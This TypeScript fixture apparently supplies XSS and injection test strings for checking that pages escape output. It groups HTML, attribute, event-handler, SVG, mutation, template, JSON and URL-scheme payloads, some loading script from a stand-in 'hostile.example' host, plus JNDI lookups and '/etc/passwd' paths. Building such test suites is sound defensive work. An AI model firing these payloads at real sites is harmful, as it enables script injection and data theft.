/**
 * Texts that become markup, script or an address wherever a page forgets to escape. Each that could run sets
 * `window.owned` or opens a dialog; each that could fetch asks `hostile.example`.
 */
export const MARKUP = {
  html: [
    '<script>owned=1</script>', '<SCRIPT>window.owned=1</SCRIPT>', '<script src=//hostile.example/a.js></script>', '<script\n>owned=1</script\n>',
    '</script><script>owned=1</script>', '<script>owned=1//', '<scr<script>ipt>owned=1</scr</script>ipt>', '<script/x>owned=1</script>',
    '<script type=module>top.owned=1</script>', '<h1>Owned</h1>', '<b onclick=owned=1>press</b>', '<!-- owned', '--><script>owned=1</script><!--',
    '<![CDATA[<script>owned=1</script>]]>', '<?xml version="1.0"?><a/>', '<!doctype html><body onload=owned=1>', '<base href=//hostile.example/>',
    '<meta http-equiv=refresh content="0;url=//hostile.example">', '<link rel=stylesheet href=//hostile.example/a.css>',
    '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>', '<iframe src=javascript:parent.owned=1></iframe>', '<object data=//hostile.example/a></object>',
    '<embed src=//hostile.example/a>', '<form action=//hostile.example><button>Send</button></form>', '<dialog open>Pay here</dialog>', '<a href=//hostile.example>x</a>',
    '<style>*{display:none}</style>', '<style>@import url(//hostile.example/a.css)</style>', '<template><script>owned=1</script></template>', '<slot name=x>',
    '<astro-island ssr client=load component-url=//hostile.example/a.js>', '<noscript><p title="</noscript><img src=x onerror=owned=1>">', '<x-owned></x-owned>',
  ],
  attributes: [
    '"><script>owned=1</script>', "'><script>owned=1</script>", '" autofocus onfocus=owned=1 x="', "' autofocus onfocus='owned=1", '" style="position:fixed;inset:0"',
    '"/><img src=x onerror=owned=1>', '`><img src=x onerror=owned=1>', '" formaction="//hostile.example', "' popover id='demo", '" type="submit" name="submit"',
    '&quot;><img src=x onerror=owned=1>', '&#34;&#62;&#60;img src=x onerror=owned=1&#62;', '&lt;script&gt;owned=1&lt;/script&gt;', '\\"><svg onload=owned=1>', '"\t>\t<b>',
    '" hidden x=\'', 'x" y=z>', '</textarea><script>owned=1</script>', '</title><img src=x onerror=owned=1>', '</select><script>owned=1</script>', '=""onerror=owned=1',
  ],
  events: [
    '<img src=x onerror=owned=1>', '<img src=x onerror="alert(1)">', '<image/src/onerror=confirm(1)>', '<body onpageshow=owned=1>', '<input autofocus onfocus=owned=1>',
    '<details open ontoggle=owned=1>', '<video><source onerror=owned=1></video>', '<audio src=x onerror=prompt(1)>', '<marquee onstart=owned=1>', '<img/src=x/onerror=owned=1>',
    '<div style=animation:x onanimationstart=owned=1>', '<p onpointerover=owned=1 style=position:fixed;inset:0>', '<select autofocus onfocus=owned=1>',
    '<button popovertarget=x onbeforetoggle=owned=1>', '<img src=x ONERROR\n=\nowned=1>', '<img src onerror=[owned=1]>', '<style onload=owned=1></style>',
  ],
  vector: [
    '<svg onload=owned=1>', '<svg/onload=alert(1)>', '<svg><script>owned=1</script></svg>', '<svg><script href=//hostile.example/a.js /></svg>',
    '<svg><animate onbegin=owned=1 attributeName=x dur=1s>', '<svg><set onbegin=owned=1>', '<svg><a xlink:href=javascript:owned=1><text y=9>x</text></a></svg>',
    '<svg><foreignObject><body onload=owned=1></foreignObject></svg>', '<svg><use href=data:image/svg+xml,<svg/>#x>', '<math><mtext><script>owned=1</script></mtext></math>',
    '<math href=javascript:owned=1>x</math>', '<math><maction actiontype=statusline xlink:href=javascript:owned=1>x</maction></math>',
  ],
  mutation: [
    '<svg></p><style><a id="</style><img src=x onerror=owned=1>">', '<math><mtext><table><mglyph><style><img src=x onerror=owned=1>',
    '<noembed><p id="</noembed><img src=x onerror=owned=1>">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=owned=1>',
    '<listing>&lt;img src=x onerror=owned=1&gt;</listing>', '<xmp><p title="</xmp><svg onload=owned=1>">', '<p id=`x` ``onclick=owned=1>', '<table><td><svg><desc><p><img src=x onerror=owned=1>',
    '<plaintext>', '<select><template><img src=x onerror=owned=1>', '<svg><title><a id="</title><img src=x onerror=owned=1>">', '<b <script>owned=1</script>',
  ],
  templates: [
    '{{7*7}}', '{{constructor.constructor("owned=1")()}}', '${7*7}', '${window.owned=1}', '#{7*7}', '<%= 7*7 %>', '<% owned=1 %>', '{% raw %}x', '{7*7}', '[[7*7]]',
    '*{7*7}', '@{7*7}', '~{7*7}', '{owned=1}', '{...globalThis}', '{{{html}}}', '{leadGrowth}', '{count}', '{query}', '<Fact name="leadGrowth" />', ':fact[leadGrowth]',
    '${jndi:ldap://hostile.example/a}', '#set($x=1)', '{{=<% %>=}}', '{php}echo 1{/php}', '__${T(java.lang.Runtime)}__::x', '$& $1 $` $\'',
  ],
  json: [
    '"}]}</script><script>owned=1</script>', '","owned":1,"x":"', '\\"},"context":{"page":"//hostile.example"}', '\\u003cscript\\u003eowned=1', '\\', '\\\\', '\\u0000',
    '{"__proto__":{"owned":1}}', '[0,{"values":[0,{}]}]', '</script', '<\\/script>', '<!--<script>', ']]>', '"', "'", '"@type":"Organization"', '{"@context":"https://hostile.example"}',
  ],
  addresses: [
    'javascript:owned=1', 'JaVaScRiPt:owned=1', 'java\tscript:owned=1', '\u0001javascript:owned=1', 'javascript://x.example/%0aowned=1', 'data:text/html,<script>owned=1</script>',
    'data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+', 'vbscript:owned', 'blob:https://hostile.example/a', 'file:///etc/passwd', '//hostile.example', '/\\hostile.example',
    '\\\\hostile.example\\x', 'https:hostile.example', 'https://www.example.com@hostile.example', 'https://hostile.example/"onload="owned=1', 'https://[::1]/', 'https://h%00.example/',
    'https://example.com/<script>owned=1</script>', "https://example.com/'-alert(1)-'", 'view-source:x', 'feed:javascript:owned=1', 'https://xn--e1awd7f.example', '///hostile.example//..',
  ],
} as const; // prettier-ignore
